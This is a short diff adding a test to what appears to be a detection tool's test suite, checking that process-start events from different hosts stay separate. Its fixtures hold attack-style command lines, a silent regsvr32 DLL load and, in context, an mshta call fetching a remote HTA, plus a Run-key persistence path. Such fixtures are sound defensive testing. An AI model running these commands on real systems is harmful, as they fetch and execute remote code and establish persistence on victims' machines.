@@ -165,6 +165,12 @@ describe("lineage", () => {
   });
 });
 
+it("keeps hosts apart that a log names by their addresses", () => {
+  const [line, image] = ["regsvr32 /s C:\\ProgramData\\a.dll", `${S32}regsvr32.exe`];
+  const started = (host: string) => aStart(0, "A", image, line, "?", { host, process: { pid: 65, image } });
+  expect(find([started("10.0.0.5"), started("10.0.0.6")]).map(({ host }) => host)).toEqual(["10.0.0.5", "10.0.0.6"]);
+});
+
 it("tells once what one record says twice", () => {
   const line = "mshta.exe http://203.0.113.5/x.hta";
   const path = "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x";
